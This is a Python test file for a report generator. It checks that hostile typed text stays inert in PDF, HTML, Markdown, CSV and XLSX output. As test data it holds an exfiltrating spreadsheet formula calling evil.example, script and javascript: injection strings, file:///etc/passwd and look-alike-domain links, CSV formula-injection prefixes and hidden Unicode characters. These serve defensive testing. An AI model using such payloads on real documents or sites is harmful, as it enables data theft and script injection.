"""Hostile text: shown as it was typed, in every format, and nothing is opened for it."""

import csv
import io
import json
import os
import subprocess
import sys
from html.parser import HTMLParser

import openpyxl
import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfReader
from support.builders import a_call, a_clinic, a_dossier, a_plan, a_question, an_answer
from support.paths import PROJECT
from support.report_documents import (
    a_call_sheet,
    a_document,
    a_report,
    a_text_question,
    one_clinic,
    pages_of,
    report_text,
)

from spaprep.core.records.records import PlanContents
from spaprep.report.content.characters import without_hidden
from spaprep.report.content.links import web_address
from spaprep.report.content.options import CallSheetLayout
from spaprep.report.formats.csv import safe_cell
from spaprep.report.formats.formats import Format
from spaprep.report.formats.html import html_text
from spaprep.report.formats.markdown import markdown_text
from spaprep.report.pdf.text import printable, wrapped
from spaprep.report.writing import document_bytes

MARKUP = '<b>Bold</b> <img src="/etc/passwd"> &amp; <jane@example.com>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SCRIPT = "</style><script>alert(1)</script>"
MARKDOWN = "![x](http://evil.example/x.png) [y](javascript:alert(1)) | `z` ~~q~~"
TEXTS = {"markup": MARKUP, "formula": FORMULA, "script": SCRIPT, "markdown": MARKDOWN}


def a_plan_that_says(text: str) -> PlanContents:
    """Return a plan in which every text that anybody can type is this one."""
    questions = (a_text_question(), a_question("own-2", label=text, ask=text, detail_label=text))
    plan = a_plan(title=text, area=text, own_questions=questions)
    clinic = a_clinic(plan, text, phone=text, website=text, address=text, city=text, notes=text)
    call = a_call(clinic, text, role=text)
    answers = [
        an_answer(call, "S01", value=True, detail=text, words=text),
        an_answer(call, "own-text", text, words=text),
    ]
    return PlanContents(plan, (a_dossier(clinic, [call], answers),))


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_it_stands_on_paper_as_typed(text: str) -> None:
    read = report_text(a_plan_that_says(text), private=True, notes=True)
    assert read.replace(" ", "").count(text.replace(" ", "")) >= 8


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_the_pdf_leads_nowhere_and_runs_nothing(text: str) -> None:
    data = a_report(a_plan_that_says(text), private=True, notes=True)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert pdf.Root.keys() <= {
            *("/Type", "/Pages", "/Outlines", "/PageMode", "/Lang", "/ViewerPreferences"),
        }
        notes = [note for page in pdf.pages for note in page.get("/Annots", [])]
        leads_to = {str(note.A.URI) for note in notes if "/A" in note}
    assert all(address.startswith("https://") for address in leads_to)
    assert not any("evil" in address for address in leads_to)


@pytest.mark.parametrize("layout", CallSheetLayout)
@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_it_stands_on_the_call_sheet_as_typed(text: str, layout: CallSheetLayout) -> None:
    read = "".join(pages_of(a_call_sheet(a_plan_that_says(text), layout=layout)))
    assert text.replace(" ", "") in read.replace(" ", "")


class TextReader(HTMLParser):
    """Reads a web page, with a line break for each `<br>`."""

    def __init__(self) -> None:
        super().__init__()
        self.text = ""
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, _attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.text += "\n" if tag == "br" else ""

    def handle_data(self, data: str) -> None:
        self.text += data


def read_html(source: str) -> TextReader:
    reader = TextReader()
    reader.feed(source)
    reader.close()
    return reader


@given(st.text(st.characters(exclude_categories=["Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"])))
def test_every_text_is_read_back_from_the_web_page_as_typed(text: str) -> None:
    reader = read_html(f"<p>{html_text(text)}</p>")
    assert (reader.text, reader.tags) == (text, ["p"])


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_the_web_page_shows_it_and_obeys_none_of_it(text: str) -> None:
    reader, plain = (
        read_html(
            document_bytes(a_document(contents, private=True, notes=True), Format.HTML).decode()
        )
        for contents in (a_plan_that_says(text), a_plan_that_says("x"))
    )
    assert reader.text.count(text) >= 8
    assert reader.tags == plain.tags


def unescaped(source: str) -> str:
    """Return what a reader of Markdown shows of a text in which every mark is escaped."""
    shown, escaped = "", False
    for character in source:
        if escaped or character != "\\":
            assert escaped or character not in "`*_{}[]!|~$<>&"
            shown += character
            escaped = False
        else:
            escaped = True
    return shown


@given(st.text(st.characters(exclude_categories=["Cc", "Cf", "Cs", "Co", "Cn", "Z"])))
def test_every_text_is_read_back_from_markdown_as_typed(text: str) -> None:
    assert unescaped(markdown_text(text)) == text


@pytest.mark.parametrize("text", ["# a", "- a", "+ a", "1. a", "12) a", "= a", "--- "])
def test_a_text_makes_no_heading_and_no_list_of_itself(text: str) -> None:
    escaped = markdown_text(text)
    assert escaped != text.strip()
    assert escaped.replace("\\", "") == text.strip()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", " =", "\t=", "\r@", "\n+"])
def test_a_spreadsheet_takes_no_cell_for_a_formula(start: str) -> None:
    assert safe_cell(f"{start}1+1").startswith("'")
    document = a_document(a_plan_that_says(f"{start}1+1"), private=True)
    rows = csv.reader(
        io.StringIO(document_bytes(document, Format.CSV).decode("utf-8-sig"), newline="")
    )
    cells = [cell for row in rows for cell in row]
    assert sum("1+1" in cell for cell in cells) > 8
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@", "＝")) for cell in cells)


@pytest.mark.parametrize("separator", ",;\t|")
@pytest.mark.parametrize(
    "text", ["x;=1+1", "x\t=1+1", "x|=1+1", "x\n=1+1", 'x";=1+1', "＝1+1", 'x"\n"=1+1', "x,=1+1"]
)
def test_no_separator_of_any_country_cuts_a_formula_out_of_the_table(
    separator: str, text: str
) -> None:
    document = a_document(a_plan_that_says(text), private=True)
    written = document_bytes(document, Format.CSV).decode("utf-8-sig")
    assert all(line.startswith('"') for line in written.split("\r\n") if line)
    rows = csv.reader(io.StringIO(written, newline=""), delimiter=separator)
    cells = [cell for row in rows for cell in row]
    assert any("1+1" in cell for cell in cells)
    assert not any(cell.strip(' "').startswith(("=", "＝")) for cell in cells)
    assert csv.Sniffer().sniff(written, ",;\t|").delimiter == ","


def test_what_is_no_formula_is_written_as_it_is() -> None:
    for text in ("Dr. Lin", "350", "0.4 %", "a = b", "– none", ""):
        assert safe_cell(text) == text


@pytest.mark.parametrize("text", [*TEXTS.values(), "http://evil.example", "@SUM(1)", "-1"])
def test_every_cell_of_the_workbook_is_a_plain_text(text: str) -> None:
    document = a_document(a_plan_that_says(text), private=True, notes=True)
    book = openpyxl.load_workbook(io.BytesIO(document_bytes(document, Format.XLSX)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert not any(cell.hyperlink for cell in cells)
    assert [cell.value for cell in cells].count(text) >= 4


HIDDEN = ["\u202e", "\x07", "\ue000", "\u200b", "\u2066"]


@pytest.mark.parametrize("odd", ["💉", "医", *HIDDEN, "ש", "م"])
def test_what_can_not_be_drawn_is_shown_as_a_box_with_a_note(odd: str) -> None:
    read = report_text(a_plan_that_says(f"Glow {odd} Bar"), private=True)
    assert "Glow □ Bar" in read
    assert "□ stands for a character that can’t be shown." in read


def test_the_note_stands_at_the_foot_of_each_page_that_has_a_box_and_of_no_other() -> None:
    plan = a_plan()
    dossiers = tuple(
        a_dossier(a_clinic(plan, name, city=city), [], [])
        for name, city in (("Harbor", "Glow 医"), ("Lumen", "Pasadena"))
    )
    pages = pages_of(a_report(PlanContents(plan, dossiers), still_to_ask=False))
    noted = {page for page in pages if "□ stands for" in page}
    assert noted == {page for page in pages if "Glow □" in page}


@pytest.mark.parametrize("format_", [Format.HTML, Format.MARKDOWN])
def test_a_text_says_what_its_boxes_mean(format_: Format) -> None:
    note = "□ stands for a character that can’t be shown."
    assert note in document_bytes(a_document(a_plan_that_says("Glow\u202eBar")), format_).decode()
    assert note not in document_bytes(a_document(), format_).decode()


def test_nothing_is_noted_where_every_character_can_be_drawn() -> None:
    assert "□ stands for" not in report_text()


def test_a_call_sheet_notes_what_it_can_not_draw() -> None:
    read = " ".join(pages_of(a_call_sheet(a_plan_that_says("Glow 医 Bar"))))
    assert "□ stands for a character" in read


@pytest.mark.parametrize("odd", HIDDEN)
@pytest.mark.parametrize("format_", [Format.CSV, Format.HTML, Format.MARKDOWN])
def test_what_is_hidden_is_shown_in_every_text(odd: str, format_: Format) -> None:
    text = document_bytes(a_document(a_plan_that_says(f"Glow{odd}Bar")), format_).decode(
        "utf-8-sig"
    )
    assert "Glow□Bar" in text
    assert odd not in text


@pytest.mark.parametrize("odd", ["ש", "م", "\x1c", "\x1f", "\u2066", "\u200f", "\u00ad"])
def test_a_character_that_would_mislead_or_vanish_is_shown_as_a_box(odd: str) -> None:
    assert wrapped(f"Glow {odd} Bar", "DejaVuSans", 9, 200) == ("Glow □ Bar",)


def test_line_breaks_are_kept_and_every_character_counts() -> None:
    assert wrapped("\n one\r\n\r\ntwo\u2028three\n", "DejaVuSans", 9, 200) == (
        "one",
        "",
        "two",
        "three",
    )
    assert printable("naïve – “Łódź” ½ ✓") == "naïve – “Łódź” ½ ✓"


def test_blanks_of_every_kind_are_blanks() -> None:
    assert printable("a\tb\u00a0c") == "a b c"
    assert printable("a\u200bb") == "a□b"


def test_more_letters_than_one_part_of_a_font_can_hold_stand_as_typed() -> None:
    alphabets = [range(0x100, 0x180), range(0x391, 0x3A2), range(0x410, 0x450), range(0x531, 0x557)]
    letters = [chr(code) for alphabet in alphabets for code in alphabet]
    assert len(letters) > 220
    words = [f"({''.join(letters[start : start + 12])}\\)" for start in range(0, len(letters), 12)]
    for text in (" ".join(words), " ".join(reversed(words))):
        assert text in report_text(one_clinic("Glow Bar", notes=text), notes=True, words=False)


def test_the_outline_keeps_what_its_own_fonts_can_show() -> None:
    assert without_hidden("Glow 💉\t医 שלום \u202e") == "Glow 💉 医 שלום □"
    outline = PdfReader(io.BytesIO(a_report(a_plan_that_says("Glow 医\u202e")))).outline
    titles = [str(entry["/Title"]) for entry in outline if not isinstance(entry, list)]
    assert "Glow 医□" in titles


@pytest.mark.parametrize(
    ("typed", "address"),
    [
        ("https://harbor.example/a?b=c#d", "https://harbor.example/a?b=c#d"),
        (" glowbar.example ", "https://glowbar.example"),
        ("http://a.example:8080", "http://a.example:8080"),
        ("javascript:alert(1)", ""),
        ("file:///etc/passwd", ""),
        ("https://bank.example@evil.example", ""),
        ("https://gl\u043ew.example", ""),
        ("https://a.example/ b", ""),
        ("localhost", ""),
        ("", ""),
    ],
)
def test_only_what_is_plainly_a_web_page_becomes_a_link(typed: str, address: str) -> None:
    assert web_address(typed) == address


@settings(max_examples=25, deadline=None)
@given(st.text(max_size=80))
def test_any_text_at_all_makes_a_sound_report(text: str) -> None:
    try:
        contents = a_plan_that_says(text.strip() or "x")
    except ValueError:  # what can't be kept can't be reported
        return
    assert report_text(contents, private=True, notes=True)


OPENS_NOTHING = """
import json, os, sys
sys.path[:0] = {path!r}
from report.formats.test_hostile_text import MARKUP, a_plan_that_says
from support.report_documents import CATALOGUE, a_document
from spaprep.report.content.call_sheet import call_sheet
from spaprep.report.formats.formats import Format
from spaprep.report.writing import document_bytes
from spaprep.report.content.options import CallSheetOptions

def everything(text):
    contents = a_plan_that_says(text)
    document = a_document(contents, private=True, notes=True)
    for format_ in Format:
        document_bytes(document, format_)
    clinics = [dossier.clinic for dossier in contents.dossiers]
    document_bytes(call_sheet(contents.plan, CATALOGUE, clinics, CallSheetOptions()))

everything("once, for what is loaded when it is first used")
heard = []
sys.addaudithook(lambda event, arguments: heard.append([event, repr(arguments)]))
everything(MARKUP)
open(os.devnull).close()
events = [entry for entry in heard if entry[0].split(".")[0] in
    {{"open", "socket", "subprocess", "os", "urllib", "webbrowser", "ctypes", "import", "exec"}}]
print(json.dumps(events))
"""


def test_nothing_is_opened_or_started_for_it() -> None:
    program = OPENS_NOTHING.format(path=sys.path)
    result = subprocess.run(
        [sys.executable, "-c", program],
        check=True,
        capture_output=True,
        cwd=PROJECT,
    )
    (last_of_all,) = json.loads(result.stdout)
    assert os.devnull in last_of_all[1]
